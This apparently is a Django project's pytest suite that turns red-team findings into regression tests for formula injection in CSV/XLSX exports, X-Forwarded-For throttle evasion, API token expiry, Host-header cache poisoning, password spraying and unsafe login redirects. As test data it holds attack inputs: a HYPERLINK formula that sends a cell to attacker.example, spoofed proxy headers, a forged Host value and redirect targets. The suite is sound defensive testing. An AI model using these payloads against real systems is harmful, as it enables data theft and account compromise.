"""The attacks of the pre-launch red-team exercise, each reproduced as it was found.

Security: formula injection in downloads, the anonymous throttle dodged with X-Forwarded-For,
API tokens that never ended, the response cache poisoned through the Host header, password
spraying across usernames, and an unsafe `next` after login.
"""

import io
import re
from datetime import date
from html import unescape

import pytest
from django.test import Client
from openpyxl import load_workbook

from instruments.models import Instrument
from instruments.services import action_record
from tests.apiclient import API, csv_rows
from tests.factories import participant

pytestmark = pytest.mark.django_db

# --- 1. formula injection in downloads ---------------------------------------------------------

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.fixture
def formula_action(real_data):
    """A participant and an action whose texts an editor typed as formulas (test fixture)."""
    who = participant(name=HYPERLINK)
    return action_record(
        participant=who,
        instrument=Instrument.objects.get(code="untoc"),
        kind="signature",
        date=date(2001, 1, 10),
        source="=1+1",
        note="@SUM(A1:A9)",
    )


def exported_action(client, fmt: str):
    response = client.get(API + "actions/", {"state": "SSD", "osce_role": "any", "format": fmt})
    assert response.status_code == 200, response.content
    return response


def test_a_formula_in_a_csv_download_arrives_as_text(client, formula_action):
    (row,) = csv_rows(exported_action(client, "csv"))
    assert row["source"] == "'=1+1"
    assert row["note"] == "'@SUM(A1:A9)"
    assert row["state_name"] == "'" + HYPERLINK
    # Dates and numbers are written as they are.
    assert row["date"] == "2001-01-10"
    assert row["id"] == str(formula_action.pk)


def test_a_formula_in_an_xlsx_download_is_a_text_cell_not_a_live_formula(client, formula_action):
    response = exported_action(client, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, text in (("source", "=1+1"), ("note", "@SUM(A1:A9)"), ("state_name", HYPERLINK)):
        assert cells[column].value == text  # the exact text, shown as typed
        assert cells[column].data_type == "s", column  # not "f": nothing is computed
        assert cells[column].quotePrefix, column  # editing the cell keeps it text
    assert b"<f>" not in zipped_sheet(response.content)
    assert cells["date"].value.date() == date(2001, 1, 10)
    assert cells["id"].value == formula_action.pk
    assert cells["state"].quotePrefix is False


def zipped_sheet(content: bytes) -> bytes:
    from zipfile import ZipFile

    with ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", FORMULAS)
def test_every_formula_start_is_neutralised_in_both_formats(text):
    from core.rest.exports import CSVRenderer, Table, XLSXRenderer

    table = Table(
        ["text", "list", "number", "day"],
        [{"text": text, "list": [text, "x"], "number": -5, "day": date(2020, 1, 2)}],
    )
    csv_text = CSVRenderer().render(table).decode()
    assert csv_text.splitlines()[0] == "text,list,number,day"
    assert csv_rows_of(csv_text) == [
        {"text": "'" + text, "list": "'" + text + "; x", "number": "-5", "day": "2020-01-02"}
    ]
    sheet = load_workbook(io.BytesIO(XLSXRenderer().render(table))).active
    text_cell, list_cell, number_cell, day_cell = sheet[2]
    # (openpyxl without lxml stores a carriage return as a line feed; with lxml, as written.)
    assert text_cell.value in (text, text.replace("\r", "\n"))
    assert (text_cell.data_type, text_cell.quotePrefix) == ("s", True)
    assert list_cell.data_type == "s"
    assert (number_cell.value, number_cell.data_type) == (-5, "n")
    assert day_cell.value.date() == date(2020, 1, 2)


def csv_rows_of(text: str) -> list[dict[str, str]]:
    import csv

    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- 2. the anonymous throttle dodged with X-Forwarded-For -------------------------------------


@pytest.fixture
def low_anonymous_rate(settings):
    from django.core.cache import cache

    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"anon": "3/minute"},
    }
    cache.clear()


def fresh_read(client, day: int, **headers):
    """A read the response cache cannot answer (another date each time), so it is counted."""
    return client.get(
        API + f"instruments/?as_of=2010-0{1 + day // 28}-{1 + day % 28:02}", **headers
    )


@pytest.mark.usefixtures("real_data", "low_anonymous_rate")
def test_a_new_forwarded_for_header_each_time_does_not_reset_the_anonymous_rate(client):
    for day in range(3):
        assert fresh_read(client, day).status_code == 200
    assert fresh_read(client, 3).status_code == 429
    dodges = [
        fresh_read(client, day, HTTP_X_FORWARDED_FOR=f"198.51.100.{day}").status_code
        for day in range(4, 24)
    ]
    assert set(dodges) == {429}


@pytest.mark.usefixtures("real_data", "low_anonymous_rate")
def test_behind_one_proxy_the_throttle_counts_the_address_the_proxy_saw(client, settings):
    settings.PROXY_COUNT = 1
    proxy = {"REMOTE_ADDR": "10.0.0.1"}
    for day in range(3):
        forwarded = f"198.51.100.{day}, 203.0.113.9"  # whatever the client wrote, then its own
        assert fresh_read(client, day, HTTP_X_FORWARDED_FOR=forwarded, **proxy).status_code == 200
    spoofed = fresh_read(client, 3, HTTP_X_FORWARDED_FOR="192.0.2.1, 203.0.113.9", **proxy)
    assert spoofed.status_code == 429
    # Another client behind the same proxy has its own count, as at the login lock.
    other = fresh_read(client, 4, HTTP_X_FORWARDED_FOR="203.0.113.10", **proxy)
    assert other.status_code == 200


# --- 5. password spraying ------------------------------------------------------------------------

PASSWORD = "a-long-test-password"  # the fixtures' (tests/conftest.py)


def back_office_login(username: str, password: str, address: str = "198.51.100.20"):
    return Client().post(
        "/admin/login/?next=/admin/",
        {"username": username, "password": password},
        REMOTE_ADDR=address,
    )


def test_one_password_sprayed_over_many_usernames_locks_the_address(editor, viewer, settings):
    limit = settings.LOGIN_ADDRESS_FAILURE_LIMIT
    # Fewer tries per username than the per-username lock needs: each alone stays unlocked.
    answers = [back_office_login(f"user-{n}", "Summer2026!").status_code for n in range(limit - 1)]
    assert set(answers) == {200}
    assert back_office_login("user-last", "Summer2026!").status_code == 429
    # Now the address is refused, also for a real account with its right password...
    refused = back_office_login(editor.username, PASSWORD)
    assert refused.status_code == 429
    assert "from this address" in refused.content.decode()
    assert 0 < int(refused["Retry-After"]) <= 15 * 60
    token = Client().post(
        API + "auth/token/",
        {"username": editor.username, "password": PASSWORD},
        content_type="application/json",
        REMOTE_ADDR="198.51.100.20",
    )
    assert token.status_code == 429
    # ...while the same account from another address gets in.
    elsewhere = back_office_login(editor.username, PASSWORD, address="203.0.113.50")
    assert elsewhere.status_code == 302


def test_a_sprayer_who_knows_one_password_cannot_clear_the_address_count(editor, settings):
    limit = settings.LOGIN_ADDRESS_FAILURE_LIMIT
    for n in range(limit - 1):
        back_office_login(f"user-{n}", "Summer2026!")
    assert back_office_login(editor.username, PASSWORD).status_code == 302
    assert back_office_login("user-more", "Summer2026!").status_code == 429


def test_a_few_typing_errors_among_an_offices_staff_do_not_lock_the_office_out(editor, viewer):
    for user in (editor, viewer):
        for _ in range(4):
            assert back_office_login(user.username, "wrong").status_code == 200
    assert back_office_login(editor.username, PASSWORD).status_code == 302
    assert back_office_login(viewer.username, PASSWORD).status_code == 302


# --- 6. an unsafe `next` after login -------------------------------------------------------------


@pytest.mark.parametrize(
    "unsafe", ["https://attacker.example/", "//attacker.example/", "/\\attacker.example"]
)
def test_a_login_with_an_unsafe_next_lands_on_the_site(editor, client, unsafe):
    response = client.post(
        "/admin/login/", {"username": editor.username, "password": PASSWORD, "next": unsafe}
    )
    assert response.status_code == 302
    assert response["Location"] == "/admin/"
    assert client.get(response["Location"]).status_code == 200


# --- 4. the response cache poisoned through the Host header ------------------------------------

POISON = "127.0.0.1:31337"
POISONED_READS = [
    "/status/?as_of=2007-06-30&osce_role=osce",  # the permalink
    "/feeds/actions/",  # the feed's links
    "/feeds/changes/",  # the change log's feed: its own links
    API + "status/?as_of=2007-06-30&page_size=5",  # the API's page links
]


@pytest.mark.usefixtures("real_data")
@pytest.mark.parametrize("path", POISONED_READS)
def test_a_forged_host_is_not_planted_in_what_later_visitors_get(client, path, settings):
    first = client.get(path, HTTP_HOST=POISON)
    assert first.status_code == 200
    assert POISON.encode() not in first.content
    later = client.get(path)  # served from the response cache
    assert later.status_code == 200
    assert POISON.encode() not in later.content
    assert settings.SITE_URL.encode() in later.content


@pytest.mark.usefixtures("real_data")
def test_a_host_outside_allowed_hosts_is_refused_even_when_the_answer_is_cached(client):
    path = "/status/?as_of=2007-06-30&osce_role=osce"
    assert client.get(path).status_code == 200  # now kept in the response cache
    assert client.get(path, HTTP_HOST="attacker.example").status_code == 400


@pytest.mark.parametrize("value", ["untoc.example.org", "ftp://untoc.example.org", "https://"])
def test_a_site_url_that_is_not_an_address_is_refused_naming_the_variable(monkeypatch, value):
    from django.core.exceptions import ImproperlyConfigured

    from untoc_tracker.settings.environment import env_site_url

    monkeypatch.setenv("DJANGO_SITE_URL", value)
    with pytest.raises(ImproperlyConfigured, match="DJANGO_SITE_URL="):
        env_site_url("DJANGO_SITE_URL", "http://127.0.0.1:8000")
    monkeypatch.setenv("DJANGO_SITE_URL", "https://untoc.example.org/")
    assert env_site_url("DJANGO_SITE_URL", "") == "https://untoc.example.org"


# --- 3. API tokens that never ended ----------------------------------------------------------


def new_token(user, name: str = "nightly export", address: str = "127.0.0.1") -> dict:
    response = Client().post(
        API + "auth/token/",
        {"username": user.username, "password": PASSWORD, "name": name},
        content_type="application/json",
        REMOTE_ADDR=address,
    )
    assert response.status_code == 200, response.content
    return response.json()


def with_token(token: str, path: str = "history/", method: str = "get"):
    return getattr(Client(), method)(API + path, HTTP_AUTHORIZATION=f"Token {token}")


def test_a_token_is_kept_only_as_a_hash_and_shown_once(editor):
    from django.db import connection

    from core.models import ApiToken

    issued = new_token(editor)
    assert set(issued) == {"token", "id", "name", "created", "expiry"}
    assert issued["name"] == "nightly export"
    stored = ApiToken.objects.get(user=editor)
    assert issued["token"] not in {stored.digest, stored.token_key}
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM core_apitoken")
        assert not any(issued["token"] in str(value) for row in cursor for value in row)
    listed = with_token(issued["token"], "auth/tokens/").json()
    assert listed == [{k: issued[k] for k in ("id", "name", "created", "expiry")}]


def test_a_token_ends_at_its_expiry(editor, settings):
    from datetime import timedelta

    import time_machine
    from django.utils import timezone

    issued = new_token(editor)
    days = settings.API_TOKEN_TTL_DAYS
    assert with_token(issued["token"]).status_code == 200
    with time_machine.travel(timezone.now() + timedelta(days=days, minutes=1)):
        assert with_token(issued["token"]).status_code == 401


def test_a_password_change_revokes_every_token_of_the_user(editor, viewer):
    first, second = new_token(editor), new_token(editor, "second")
    others = new_token(viewer)
    editor.set_password("another-long-password")
    editor.save()
    assert with_token(first["token"]).status_code == 401
    assert with_token(second["token"]).status_code == 401
    assert with_token(others["token"]).status_code == 200


def test_a_password_changed_in_the_back_office_revokes_the_tokens(editor):
    issued = new_token(editor)
    client = Client()
    client.force_login(editor)
    changed = client.post(
        "/admin/password_change/",
        {
            "old_password": PASSWORD,
            "new_password1": "a-new-long-password-2026",
            "new_password2": "a-new-long-password-2026",
        },
    )
    assert changed.status_code == 302
    assert with_token(issued["token"]).status_code == 401


def test_deactivating_an_account_revokes_its_tokens_for_good(editor):
    from core.models import ApiToken

    issued = new_token(editor)
    editor.is_active = False
    editor.save()
    assert not ApiToken.objects.filter(user=editor).exists()
    editor.is_active = True
    editor.save()
    assert with_token(issued["token"]).status_code == 401


def test_a_user_lists_and_revokes_their_own_tokens_only(editor, viewer):
    kept, revoked = new_token(editor, "kept"), new_token(editor, "revoked")
    theirs = new_token(viewer, "viewer's")
    listing = with_token(kept["token"], "auth/tokens/").json()
    assert [t["name"] for t in listing] == ["kept", "revoked"]
    # Another user's token is not found, and stays working.
    assert with_token(kept["token"], f"auth/tokens/{theirs['id']}/", "delete").status_code == 404
    assert with_token(theirs["token"]).status_code == 200
    gone = with_token(kept["token"], f"auth/tokens/{revoked['id']}/", "delete")
    assert gone.status_code == 204
    assert with_token(revoked["token"]).status_code == 401
    assert [t["name"] for t in with_token(kept["token"], "auth/tokens/").json()] == ["kept"]
    assert Client().get(API + "auth/tokens/").status_code == 401


def test_the_schema_documents_the_token_shape_and_routes(client):
    schema = client.get("/api/schema/", {"format": "json"}).json()
    login = schema["paths"]["/api/v1/auth/token/"]["post"]
    shape = login["responses"]["200"]["content"]["application/json"]["schema"]["$ref"]
    fields = schema["components"]["schemas"][shape.rsplit("/", 1)[1]]["properties"]
    assert set(fields) == {"token", "id", "name", "created", "expiry"}
    assert "get" in schema["paths"]["/api/v1/auth/tokens/"]
    assert "delete" in schema["paths"]["/api/v1/auth/tokens/{uid}/"]


def test_the_status_tables_download_shows_a_formula_source_as_text(client, formula_action):
    """As a reader would meet it: the status page's download links, then a spreadsheet."""
    page = client.get("/status/", {"osce_role": "any", "as_of": "2001-02-01"})
    assert page.status_code == 200, page.content[:300]
    links = re.findall(
        r'href="(/api/v1/status/\?[^"]*format=(?:csv|xlsx)[^"]*)"', page.content.decode()
    )
    assert len(links) == 2
    csv_link, xlsx_link = (unescape(link) for link in links)
    rows = csv_rows(client.get(csv_link))
    (untoc,) = [r for r in rows if (r["state"], r["instrument"]) == ("SSD", "untoc")]
    assert untoc["signature_source"].startswith("'=1+1")
    sheet = load_workbook(io.BytesIO(client.get(xlsx_link).content)).active
    header = [cell.value for cell in sheet[1]]
    state, instrument, source = (
        header.index(c) for c in ("state", "instrument", "signature_source")
    )
    (cell,) = [
        row[source]
        for row in sheet.iter_rows(min_row=2)
        if (row[state].value, row[instrument].value) == ("SSD", "untoc")
    ]
    assert cell.value.startswith("=1+1")
    assert cell.data_type == "s"
